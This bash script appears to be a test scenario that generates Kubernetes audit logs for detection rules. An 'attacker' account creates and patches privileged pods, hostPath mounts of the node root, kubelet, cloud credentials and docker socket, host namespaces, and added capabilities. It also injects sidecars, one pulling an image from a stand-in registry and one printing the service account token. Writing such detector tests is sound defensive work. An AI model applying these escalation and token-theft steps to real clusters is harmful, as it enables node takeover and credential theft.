#!/bin/bash
# Pod-spec techniques through every way of getting a pod spec into the cluster: a privileged
# container, sensitive hostPath mounts, host namespaces and added capabilities, created as a Pod
# and through every workload kind (Deployment, DaemonSet, StatefulSet, ReplicaSet, Job, CronJob),
# by create, update (replace) and patch (strategic, merge and JSON patch); sidecar and ephemeral
# container injection; and near misses that must stay silent. Runs after benign.sh (team-a exists).
# The audit log of this run is testdata/apiserver-1.36-workloads.log.
. "${LIB:-/work/shared/scenarios/lib.sh}"
A=admin-token; M=attacker-token; D=dev-token
set -x
# wl KIND NAME SPEC: a manifest of KIND whose pods run the pod spec SPEC (JSON).
wl() {
  local kind=$1 name=$2 spec=$3
  case $kind in
  Pod) jq -cn --arg n "$name" --argjson s "$spec" '{apiVersion:"v1",kind:"Pod",metadata:{name:$n},spec:$s}' ;;
  Job) jq -cn --arg n "$name" --argjson s "$spec" '{apiVersion:"batch/v1",kind:"Job",metadata:{name:$n},spec:{template:{spec:($s+{restartPolicy:"Never"})}}}' ;;
  CronJob) jq -cn --arg n "$name" --argjson s "$spec" '{apiVersion:"batch/v1",kind:"CronJob",metadata:{name:$n},spec:{schedule:"*/5 * * * *",jobTemplate:{spec:{template:{spec:($s+{restartPolicy:"Never"})}}}}}' ;;
  *) jq -cn --arg k "$kind" --arg n "$name" --argjson s "$spec" '{apiVersion:"apps/v1",kind:$k,metadata:{name:$n},spec:({selector:{matchLabels:{app:$n}},template:{metadata:{labels:{app:$n}},spec:$s}}+(if $k=="StatefulSet" then {serviceName:$n} else {} end))}' ;;
  esac
}
C='"name":"app","image":"busybox:1.36","command":["sleep","3600"]'
BASE='{"containers":[{'$C'}]}'
PRIV='{"containers":[{'$C',"securityContext":{"privileged":true}}]}'
ROOT='{"containers":[{'$C',"volumeMounts":[{"name":"host","mountPath":"/host"}]}],"volumes":[{"name":"host","hostPath":{"path":"/"}}]}'
KUBELET='{"containers":[{'$C',"volumeMounts":[{"name":"kubelet","mountPath":"/kubelet","readOnly":true}]}],"volumes":[{"name":"kubelet","hostPath":{"path":"/var/lib/kubelet"}}]}'
AZURE='{"containers":[{'$C',"volumeMounts":[{"name":"azure","mountPath":"/azure.json","readOnly":true}]}],"volumes":[{"name":"azure","hostPath":{"path":"/etc/kubernetes/azure.json","type":"File"}}]}'
SOCK='{"containers":[{'$C',"volumeMounts":[{"name":"sock","mountPath":"/var/run/docker.sock","readOnly":true}]}],"volumes":[{"name":"sock","hostPath":{"path":"/var/run/docker.sock"}}]}'
ETCW='{"containers":[{'$C',"volumeMounts":[{"name":"etc","mountPath":"/host-etc"}]}],"volumes":[{"name":"etc","hostPath":{"path":"/etc/"}}]}'
CACHEW='{"containers":[{'$C',"volumeMounts":[{"name":"cache","mountPath":"/cache"}]}],"volumes":[{"name":"cache","hostPath":{"path":"/data/cache","type":"DirectoryOrCreate"}}]}'
HOSTNS='{"hostPID":true,"hostIPC":true,"containers":[{'$C'}]}'
HOSTNET='{"hostNetwork":true,"containers":[{'$C'}]}'
SYSADMIN='{"containers":[{'$C',"securityContext":{"capabilities":{"add":["SYS_ADMIN","SYS_PTRACE"]}}}]}'
NETRAW='{"containers":[{'$C',"securityContext":{"capabilities":{"add":["NET_RAW","CAP_NET_ADMIN"]}}}]}'
# Near misses: hardened or harmless specs that no pod-spec rule may flag.
SAFE='{"hostNetwork":false,"containers":[{'$C',"securityContext":{"privileged":false,"allowPrivilegeEscalation":false,"capabilities":{"drop":["ALL"],"add":["NET_BIND_SERVICE"]}},"volumeMounts":[{"name":"cache","mountPath":"/cache","readOnly":true},{"name":"scratch","mountPath":"/scratch"}]}],"volumes":[{"name":"cache","hostPath":{"path":"/data/cache"}},{"name":"scratch","emptyDir":{}}]}'

# Before mallory holds any rights: denied attempts.
wl DaemonSet node-agent "$PRIV" | kc $M -n kube-system create -f -
wl Pod root-shell "$ROOT" | kc $M -n kube-system create -f -
sleep 1
kc $A create clusterrolebinding mallory-ops --clusterrole=cluster-admin --user=mallory
sleep 1

# Privileged container: create, through every kind.
for k in Pod Deployment DaemonSet StatefulSet ReplicaSet Job CronJob; do
  n=priv-$(echo $k | tr A-Z a-z)
  wl $k $n "$PRIV" | kc $M -n team-a create -f -
done
# Privileged container: update (replace) and patch of workloads created harmless first.
for k in Deployment DaemonSet StatefulSet ReplicaSet CronJob; do
  l=$(echo $k | tr A-Z a-z)
  wl $k upd-$l "$BASE" | kc $M -n team-a create -f -
  wl $k pat-$l "$BASE" | kc $M -n team-a create -f -
done
sleep 1
for k in deployment daemonset statefulset replicaset; do
  kc $M -n team-a get $k upd-$k -o json | jq '.spec.template.spec.containers[0].securityContext={"privileged":true}' | kc $M -n team-a replace -f -
done
kc $M -n team-a get cronjob upd-cronjob -o json | jq '.spec.jobTemplate.spec.template.spec.containers[0].securityContext={"privileged":true}' | kc $M -n team-a replace -f -
kc $M -n team-a patch deployment pat-deployment -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}}'
kc $M -n team-a patch daemonset pat-daemonset --type json -p '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]'
kc $M -n team-a patch statefulset pat-statefulset --type merge -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"busybox:1.36","securityContext":{"privileged":true}}]}}}}'
kc $M -n team-a patch replicaset pat-replicaset -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}}'
kc $M -n team-a patch cronjob pat-cronjob -p '{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}}}}'
# A Job's pod template is immutable: the patch is refused (422) but was authorized.
kc $M -n team-a patch job priv-job -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"privileged":false}}]}}}}'
sleep 1

# hostPath mounts, host namespaces, capabilities: one kind each, plus a patch.
wl DaemonSet host-root "$ROOT" | kc $M -n kube-system create -f -
wl Pod kubelet-reader "$KUBELET" | kc $M -n team-a create -f -
wl Deployment cloud-sync "$AZURE" | kc $M -n team-a create -f -
wl Job docker-cli "$SOCK" | kc $M -n team-a create -f -
wl StatefulSet etc-writer "$ETCW" | kc $M -n team-a create -f -
wl ReplicaSet cache-writer "$CACHEW" | kc $M -n team-a create -f -
wl StatefulSet host-ns "$HOSTNS" | kc $M -n team-a create -f -
wl Pod host-net "$HOSTNET" | kc $M -n team-a create -f -
wl Job sysadmin "$SYSADMIN" | kc $M -n team-a create -f -
wl CronJob net-raw "$NETRAW" | kc $M -n team-a create -f -
wl Deployment mount-later "$BASE" | kc $M -n team-a create -f -
wl Deployment hostns-later "$BASE" | kc $M -n team-a create -f -
sleep 1
kc $M -n team-a patch deployment mount-later -p '{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/var/lib/kubelet/pki"}}],"containers":[{"name":"app","volumeMounts":[{"name":"host","mountPath":"/pki"}]}]}}}}'
kc $M -n team-a patch deployment hostns-later --type merge -p '{"spec":{"template":{"spec":{"hostPID":true}}}}'
kc $M -n team-a get replicaset upd-replicaset -o json | jq '.spec.template.spec.containers[0].securityContext.capabilities={"add":["SYS_MODULE"]}' | kc $M -n team-a replace -f -

# Near misses by admin and alice.
wl Deployment hardened "$SAFE" | kc $A -n team-a create -f -
wl Pod hardened-pod "$SAFE" | kc $D -n team-a create -f -
kc $D -n team-a set image deployment/web nginx=nginx:1.27
sleep 1

# Sidecar injection: containers added to existing workloads by patch, JSON patch and update;
# an ephemeral container added to a pod (kubectl debug).
wl Deployment shop "$BASE" | kc $A -n team-a create -f -
wl DaemonSet log-agent "$BASE" | kc $A -n team-a create -f -
wl StatefulSet ledger "$BASE" | kc $A -n team-a create -f -
sleep 1
kc $M -n team-a patch deployment shop -p '{"spec":{"template":{"spec":{"containers":[{"name":"metrics-proxy","image":"203.0.113.9:5000/proxy:1.0","args":["--upstream","https://203.0.113.7"]}]}}}}'
kc $M -n team-a patch daemonset log-agent --type json -p '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"helper","image":"alpine:3.19","command":["sh","-c","cat /var/run/secrets/kubernetes.io/serviceaccount/token"]}}]'
kc $M -n team-a get statefulset ledger -o json | jq '.spec.template.spec.containers += [{"name":"tap","image":"alpine:3.19","command":["sleep","1d"]}]' | kc $M -n team-a replace -f -
kc $A -n team-a set image deployment/shop app=busybox:1.37
kc $M -n team-a debug pod/kubelet-reader --image=busybox:1.36 --attach=false -- sleep 1d
sleep 3
